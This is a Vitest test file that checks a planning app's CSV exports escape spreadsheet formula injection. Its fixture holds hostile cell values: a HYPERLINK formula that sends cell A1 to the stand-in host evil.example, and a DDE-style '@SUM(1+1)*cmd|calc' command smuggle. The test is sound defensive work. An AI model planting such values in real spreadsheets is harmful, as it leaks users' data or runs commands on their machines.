import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import {
  capacityCsv,
  familyPlanCsv,
  familySetupCsv,
  inputCsv,
  type ExportFile,
} from '../../../../client/src/lib/csv-export.ts';
import { reconcile, type Plan } from '../../../../shared/engine/index.ts';
import { previewCsvImport } from '../../../../shared/import/csv-plan.ts';
import { GRID_NAMES } from '../../../../shared/schema/grids.ts';

/** A plan whose people-typed ids and names look like formulas, and a month short of stock. */
function hostilePlan(): Plan {
  return {
    format: 'fulcrum.plan',
    version: 2,
    cycle: '2027-01',
    currency: 'EUR',
    periods: ['2027-01', '2027-02'],
    families: [
      {
        id: '=D1',
        name: '=HYPERLINK("http://evil.example/?leak="&A1,"Cordless drills")',
        price: 10,
        unitCost: 6,
        openingInventory: 0,
      },
      { id: 'S1', name: '@SUM(1+1)*cmd|calc', price: 20, unitCost: 12, openingInventory: 0 },
    ],
    resources: [{ id: '-L1', name: '+Assembly line 1' }],
    loads: [],
    demand: { '=D1': { '2027-01': 100 }, S1: { '2027-01': 50 } },
    supply: { '=D1': { '2027-01': 88 } },
    capacity: { '-L1': { '2027-01': 400 } },
    budget: {},
    history: { '=D1': { '2026-12': { actual: 99 } } },
  };
}

/** Every cell of a file as a spreadsheet reads it. */
function cells(file: ExportFile): string[] {
  return Papa.parse<string[]>(file.text.replace(/^\uFEFF/, ''), {
    skipEmptyLines: true,
  }).data.flat();
}

/** Whether a spreadsheet would run this cell as a formula: text starting with = + - @. */
function isFormula(cell: string): boolean {
  return /^[=+\-@\t\r]/.test(cell) && !/^-\d+(\.\d+)?$/.test(cell);
}

describe('CSV exports', () => {
  const plan = hostilePlan();
  const result = reconcile(plan);
  const files = [
    familyPlanCsv(result),
    capacityCsv(result),
    familySetupCsv(plan),
    ...GRID_NAMES.map((measure) => inputCsv(plan, measure)),
    inputCsv(plan, 'actual'),
  ];

  it('write no cell a spreadsheet would run as a formula', () => {
    for (const file of files) {
      expect(cells(file).filter(isFormula), file.name).toEqual([]);
    }
    const familyPlan = cells(familyPlanCsv(result));
    expect(familyPlan).toContain('\'=HYPERLINK("http://evil.example/?leak="&A1,"Cordless drills")');
    expect(familyPlan).toContain("'=D1");
    expect(cells(capacityCsv(result))).toContain("'+Assembly line 1");
  });

  it('keep negative numbers as numbers', () => {
    // 88 made, 100 wanted: the projected inventory of =D1 in January is -12.
    const row = cells(familyPlanCsv(result));
    expect(row).toContain('-12');
    expect(row).not.toContain("'-12");
  });

  it('import back unchanged, escaped ids included', () => {
    for (const measure of [...GRID_NAMES, 'actual'] as const) {
      const check = previewCsvImport(inputCsv(plan, measure).text, { measure, plan });
      expect(check.errors, measure).toEqual([]);
      expect(check.changes, measure).toEqual([]);
    }
  });
});
